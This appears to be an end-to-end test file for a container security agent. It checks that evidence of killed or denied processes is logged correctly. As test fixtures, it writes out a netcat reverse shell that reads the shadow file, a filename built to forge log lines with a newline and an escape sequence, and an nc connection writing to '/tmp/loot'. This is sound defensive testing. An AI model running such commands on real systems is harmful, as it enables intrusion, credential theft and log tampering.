// Evidence of what a response was applied to: with real processes that end, or do not.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import type Docker from 'dockerode';
import { startDockerd, type TestDockerd } from '../support/dockerd.ts';
import { E2eAgent, until, type DetectionLine } from '../support/e2e-agent.ts';
import { agentLines, execInContainer } from '../support/e2e-docker.ts';
import { KILLED, READ, RULES, nextLine, runApp } from './responses-fixture.ts';

let engine: TestDockerd;
before(async () => {
  engine = await startDockerd();
  await engine.importBusybox();
});
after(() => engine[Symbol.asyncDispose]());

async function evidenceIn(app: Docker.Container, count = 1): Promise<readonly DetectionLine[]> {
  const lines = await until('its evidence is there', async () => {
    const found = (await agentLines(engine, app)).filter(({ rule }) => rule === 'Varvel: evidence');
    return found.length >= count && found;
  });
  assert.equal(lines.length, count);
  return lines;
}

/** Whether the file in the container has this digest. */
const hasDigest = async (app: Docker.Container, path: string, sha256: unknown): Promise<boolean> =>
  (await execInContainer(app, `sha256sum ${path} | grep -q '^${String(sha256)} '`)) === 0;

/** A shell that an intruder has got by the network, and a file with a name that is to forge a line. */
const REVERSE_SHELL = `sleep 600 | nc -lp 9999 >/dev/null & exec 5>"$(printf '/tmp/a\\nb\\033[31m')"; sleep 0.5; nc 127.0.0.1 9999 -e sh -c '${READ.replace('SECONDS', '600')}'`;

test('what a killed process was and had open is in a line of its own, which names the line of the detection', async () => {
  await using agent = await E2eAgent.start({
    dockerd: engine,
    noDefaultRules: true,
    rules: { 'own.yaml': RULES },
    config: ['responses: [{match: {tag: secrets}, do: kill, mode: enforce}]'],
  });
  const shop = await runApp(engine, 'shop', 'production');
  try {
    assert.equal(await execInContainer(shop, REVERSE_SHELL), KILLED);
    const line = await nextLine(engine, shop, 0);
    const [found] = await evidenceIn(shop);
    const { output_fields: fields } = found!;
    assert.equal(found!.time, line.time);
    assert.equal(found!.priority, 'Informational');
    assert.deepEqual(
      ['of', 'id', 'rule', 'responses', 'missing', 'exe'].map((key) => fields[`evidence.${key}`]),
      [line.seq, line.id, 'Shadow read', 'kill done', null, '/bin/busybox'],
    );
    assert.ok(await hasDigest(shop, '/bin/busybox', fields['evidence.exe_sha256']));
    const [sockets, files, processes] = ['sockets', 'files', 'processes'].map(
      (key) => fields[`evidence.${key}`] as unknown as readonly string[],
    );
    assert.equal(sockets!.length, 2, String(sockets));
    // The shell may just have put another file in the place of 0.
    for (const one of sockets!)
      assert.match(one, /^\d+ tcp 127\.0\.0\.1:\d+->127\.0\.0\.1:9999 established$/);
    assert.ok(files!.includes('5 /tmp/a\nb\x1b[31m'), String(files));
    assert.equal(fields['evidence.open'], sockets!.length + files!.length);
    // Busybox runs itself as /proc/self/exe.
    assert.match(processes!.join(), /^\d+ exe \/bin\/busybox(?:,|$)/);
    // In one line, and with nothing that steers a terminal.
    const raw = readFileSync(agent.operatorFile, 'utf8')
      .split('\n')
      .find((one) => one.includes('Varvel: evidence'))!;
    assert.match(raw, /5 \/tmp\/a\\nb\\u001b\[31m/);
    assert.ok(raw.length <= 1500, String(raw.length));
    assert.match(agent.varvel('status').stdout, /^evidence: written 1 times$/m);
    assert.match(await agent.metrics(), /^varvel_evidence_total\{outcome="whole"\} 1$/m);
  } finally {
    await shop.remove({ force: true });
  }
});

test('six lines in a minute of a container; what is over is counted', async () => {
  await using agent = await E2eAgent.start({
    dockerd: engine,
    noDefaultRules: true,
    rules: { 'own.yaml': RULES },
    config: ['responses: [{match: {tag: secrets}, do: kill, mode: enforce}]'],
  });
  const shop = await runApp(engine, 'shop', 'production');
  try {
    const again = `n=0; while [ $n -lt 9 ]; do n=$((n+1)); sh -c '${READ.replace('SECONDS', '600')}'; done; true`;
    assert.equal(await execInContainer(shop, again), 0);
    await evidenceIn(shop, 6);
    assert.match(
      agent.varvel('status').stdout,
      /^evidence: written 6 times.*, 3 times over the limit and not written$/m,
    );
    assert.match(await agent.metrics(), /^varvel_evidence_total\{outcome="limited"\} 3$/m);
  } finally {
    await shop.remove({ force: true });
  }
});

test('of a container that is ended, the evidence is in its log before', async () => {
  await using agent = await E2eAgent.start({
    dockerd: engine,
    noDefaultRules: true,
    rules: { 'own.yaml': RULES },
    config: [
      'responses: [{match: {tag: secrets}, do: restart, last_instance: true, mode: enforce}]',
    ],
  });
  const shop = await runApp(engine, 'shop', 'production');
  try {
    void execInContainer(shop, READ.replace('SECONDS', '600')).catch(() => undefined);
    await until('it has ended', async () => !(await shop.inspect()).State.Running);
    const [found] = await evidenceIn(shop);
    assert.equal(found!.output_fields['evidence.responses'], 'restart done');
    assert.ok(Array.isArray(found!.output_fields['evidence.files']), JSON.stringify(found));
    assert.match(agent.varvel('status').stdout, /^evidence: written 1 times/m);
  } finally {
    await shop.remove({ force: true });
  }
});

const DENIES = `
- rule: New program run
  desc: A test's own.
  condition: evt.type in (execve, execveat) and evt.rawres = 0 and proc.is_exe_upper_layer = true
  output: new program %proc.exepath
  priority: ERROR
- rule: Elsewhere
  desc: A test's own.
  condition: evt.type = connect and fd.snet = "192.0.2.0/24"
  output: connection=%fd.name result=%evt.res
  priority: ERROR
`;

test('of what the kernel prevented there is what can be had, and the line says what is missing and why', async () => {
  await using agent = await E2eAgent.start({
    dockerd: engine,
    noDefaultRules: true,
    rules: { 'own.yaml': DENIES },
    config: ['responses: [{match: {rule: "*"}, do: deny, mode: enforce}]'],
  });
  const shop = await runApp(engine, 'shop', 'production');
  try {
    await until(
      'the kernel denies',
      async () => (await agent.snapshot()).kernel.verdicts.denying.containers === 1,
    );
    assert.equal(await execInContainer(shop, 'cp /bin/busybox /tmp/new; /tmp/new true'), KILLED);
    const [ended] = await evidenceIn(shop);
    const { output_fields: program } = ended!;
    assert.equal(program['evidence.exe'], '/tmp/new');
    // Mostly it has ended by then. A quick agent sees it while it ends.
    const missing = program['evidence.missing'];
    if (missing === null) assert.equal(typeof program['evidence.open'], 'number');
    else assert.deepEqual(missing, ['open files and sockets: the process had ended']);
    assert.ok(await hasDigest(shop, '/tmp/new', program['evidence.exe_sha256']));
    assert.equal(program['evidence.responses'], 'deny prevented');

    // It has no room to say why it ends, and so goes on: it can be looked at.
    const waits =
      'mkfifo /tmp/full; exec 8<>/tmp/full; dd if=/dev/zero bs=4096 count=16 >&8 2>/dev/null; nc 192.0.2.1 9 2>&8 7>/tmp/loot & sleep 600';
    void execInContainer(shop, waits).catch(() => undefined);
    const [, refused] = await evidenceIn(shop, 2);
    const { output_fields: fields } = refused!;
    assert.deepEqual(
      ['rule', 'responses', 'missing'].map((key) => fields[`evidence.${key}`]),
      ['Elsewhere', 'deny prevented', null],
    );
    const [files, sockets] = [
      fields['evidence.files'],
      fields['evidence.sockets'],
    ] as unknown as string[][];
    assert.ok(files!.includes('7 /tmp/loot'), String(files));
    assert.match(String(sockets), /^\d tcp 0\.0\.0\.0:0 unconnected$/);
    assert.ok(await hasDigest(shop, '/bin/busybox', fields['evidence.exe_sha256']));
  } finally {
    await shop.remove({ force: true });
  }
});
